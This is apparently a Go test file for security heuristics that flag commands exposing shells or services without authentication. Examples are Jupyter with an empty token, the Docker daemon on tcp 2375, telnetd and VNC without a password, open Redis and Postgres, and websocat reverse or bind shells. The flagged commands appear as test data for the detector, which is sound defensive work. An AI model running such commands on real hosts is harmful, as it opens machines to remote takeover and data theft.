package heuristics

import "testing"

func TestExposedShell(t *testing.T) {
	runRuleCases(t, "network.exposed-shell", []ruleCase{
		cmdCase("jupyter lab --ip=0.0.0.0 --ServerApp.token='' --no-browser", true),
		cmdCase("jupyter notebook --ip 0.0.0.0 --NotebookApp.token ''", true),
		cmdCase("jupyter-lab --ip= --IdentityProvider.token=", true),
		cmdCase("python3 -m jupyterlab --ServerApp.ip=0.0.0.0 --ServerApp.token=", true),
		cmdCase("code-server --auth none --bind-addr 0.0.0.0:8443", true),
		cmdCase("openvscode-server --host 0.0.0.0 --without-connection-token", true),
		cmdCase("dockerd -H tcp://0.0.0.0:2375", true),
		cmdCase("dockerd -H :2375 --tls", true),
		cmdCase("kubectl proxy --address=0.0.0.0", true),
		cmdCase("gotty -w bash", true),
		cmdCase("ttyd -p 7681 zsh", true),
		cmdCase("busybox telnetd -l /bin/bash", true),
		cmdCase("x11vnc -forever -nopw", true),
		cmdCase("Xvnc :2 -SecurityTypes None -localhost no", true),
		cmdCase("socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock", true),
		cmdCase("docker run -d -p 8888:8888 jupyter/scipy-notebook start-notebook.py --IdentityProvider.token=''", true),
		cmdCase("podman run -d -p 2375:2375 -e DOCKER_TLS_CERTDIR= docker:dind", true),
		cmdCase("printf \"c.ServerApp.ip = '0.0.0.0'\\nc.ServerApp.token = ''\\n\" > ~/.jupyter/jupyter_server_config.py", true),
		toolCase("code-server config", "write_file", map[string]any{"path": "~/.config/code-server/config.yaml",
			"content": "bind-addr: 0.0.0.0:8080\nauth: none\ncert: false\n"}, true),

		cmdCase("jupyter lab", false),
		cmdCase("jupyter lab --ip=0.0.0.0", false),
		cmdCase("jupyter lab --ip=127.0.0.1 --ServerApp.token=''", false),
		cmdCase("jupyter lab --ip=0.0.0.0 --ServerApp.token='' --ServerApp.password='argon2:abc'", false),
		cmdCase("jupyter nbconvert --to html --ip=0.0.0.0 x.ipynb", false),
		cmdCase("code-server --auth none", false),
		cmdCase("code-server --bind-addr 0.0.0.0:8080", false),
		cmdCase("dockerd -H tcp://0.0.0.0:2376 --tlsverify --tlscacert ca.pem", false),
		cmdCase("dockerd -H unix:///var/run/docker.sock", false),
		cmdCase("kubectl proxy", false),
		cmdCase("ttyd -i 127.0.0.1 -c u:p bash", false),
		cmdCase("gotty --address 127.0.0.1 -w bash", false),
		cmdCase("gotty tail -w 80 log.txt", false),
		cmdCase("x11vnc -localhost -rfbauth ~/.vnc/passwd", false),
		cmdCase("docker run -p 127.0.0.1:8888:8888 jupyter/base-notebook start-notebook.py --IdentityProvider.token=''", false),
		cmdCase("socat UNIX-LISTEN:/tmp/d.sock,fork UNIX-CONNECT:/var/run/docker.sock", false),
	})
}

func TestExposedService(t *testing.T) {
	runRuleCases(t, "network.exposed-service", []ruleCase{
		cmdCase("redis-server --protected-mode no", true),
		cmdCase("redis-server --bind 0.0.0.0 -::1 --protected-mode no", true),
		cmdCase("redis-cli config set protected-mode no", true),
		cmdCase("echo -e 'bind 0.0.0.0\\nprotected-mode no' > redis.conf", true),
		cmdCase("printf 'protected-mode no\\n' | redis-server -", true),
		cmdCase("mongod --bind_ip_all", true),
		cmdCase("mongod --bind_ip 10.0.0.5,127.0.0.1", true),
		cmdCase("elasticsearch -E network.host=_site_ -E xpack.security.enabled=false", true),
		cmdCase("cd ~ && python3 -m http.server 9000", true),
		cmdCase("python3 -m http.server -b 0.0.0.0 -d /etc", true),
		cmdCase("npx http-server $HOME -p 8081", true),
		cmdCase("caddy file-server --root / --listen :9000", true),
		cmdCase("python3 -m uploadserver 8000", true),
		cmdCase("git daemon --enable=receive-pack --base-path=.", true),
		cmdCase("git daemon --export-all --base-path=/home/dev", true),
		cmdCase("git daemon --export-all", true),
		cmdCase("ttyd -c admin:pw bash", true),
		cmdCase("gotty htop", true),
		cmdCase("docker run -d -p 5432:5432 -e POSTGRES_HOST_AUTH_METHOD=trust postgres", true),
		cmdCase("docker run -d -p 3306:3306 --env MARIADB_ALLOW_EMPTY_ROOT_PASSWORD=1 mariadb", true),
		cmdCase("docker run -d -P -e GF_AUTH_ANONYMOUS_ORG_ROLE=Admin grafana/grafana", true),
		cmdCase("echo 'hostssl all all 0.0.0.0/0 trust' >> pgdata/pg_hba.conf", true),
		cmdCase("exportfs -o rw '*:/srv'", true),
		toolCase("mongod.conf", "write_file", map[string]any{"path": "mongod.conf", "content": "net:\n  port: 27017\n  bindIp: 0.0.0.0\n"}, true),
		toolCase("elasticsearch.yml", "write_file", map[string]any{"path": "config/elasticsearch.yml",
			"content": "network.host: 0.0.0.0\nxpack.security.enabled: false\n"}, true),

		cmdCase("redis-server", false),
		cmdCase("redis-server --protected-mode no --bind 127.0.0.1 ::1", false),
		cmdCase("redis-server --protected-mode no --requirepass s3cret", false),
		cmdCase("redis-server --bind 0.0.0.0", false),
		cmdCase("mongod --dbpath ./data", false),
		cmdCase("mongod --bind_ip_all --auth", false),
		cmdCase("elasticsearch -E xpack.security.enabled=false", false),
		cmdCase("python3 -m http.server 8000 --bind 127.0.0.1", false),
		cmdCase("python3 -m http.server -d dist 8080", false),
		cmdCase("python3 -m http.server", false),
		cmdCase("npx http-server ./build -p 8080", false),
		cmdCase("npx serve -l 3000", false),
		cmdCase("php -S localhost:8000 -t ~", false),
		cmdCase("git daemon --base-path=. --export-all", false),
		cmdCase("git daemon --export-all --enable=receive-pack --listen=127.0.0.1 --base-path=.", false),
		cmdCase("docker run -p 127.0.0.1:6379:6379 redis", false),
		cmdCase("docker run -d -p 6379:6379 redis", false),
		cmdCase("docker run -d -p 127.0.0.1:5432:5432 -e POSTGRES_HOST_AUTH_METHOD=trust postgres", false),
		cmdCase("npm run dev -- --host 0.0.0.0", false),
		cmdCase("echo 'host all all 127.0.0.1/32 trust' >> pgdata/pg_hba.conf", false),
		cmdCase("echo 'host all all 0.0.0.0/0 scram-sha-256' >> pgdata/pg_hba.conf", false),
		toolCase("mongod.conf with auth", "write_file", map[string]any{"path": "mongod.conf",
			"content": "net:\n  bindIp: 0.0.0.0\nsecurity:\n  authorization: enabled\n"}, false),
	})
}

func TestOpenBind(t *testing.T) {
	for addr, want := range map[string]bool{
		"": true, "0.0.0.0": true, "::": true, "[::]:8080": true, "*": true, ":8080": true, "8080": true, "tcp://0.0.0.0:2375": true,
		"192.168.1.4": true, "0": true, "eth0": true, "_site_": true,
		"127.0.0.1": false, "localhost:8000": false, "::1": false, "[::1]:80": false, "tcp://127.0.0.1:2375": false,
		"unix:///var/run/docker.sock": false, "lo": false, "_local_": false, "2130706433": false, "/tmp/ttyd.sock": false,
	} {
		if got := openBind(addr); got != want {
			t.Errorf("openBind(%q) = %v, want %v", addr, got, want)
		}
	}
}

// websocat's program addresses are socat's: a shell for the other end.
func TestWebsocatShell(t *testing.T) {
	runRuleCases(t, "revshell.socat", []ruleCase{
		cmdCase("websocat -s 0.0.0.0:8080 sh-c:'bash -i'", true),
		cmdCase("websocat ws-l:0.0.0.0:9000 exec:/bin/sh", true),
		cmdCase("websocat ws://203.0.113.9:80/ cmd:'sh -i'", true),
		cmdCase("websocat ws://localhost:8080/ws", false),
		cmdCase("websocat -s 8080", false),
	})
}
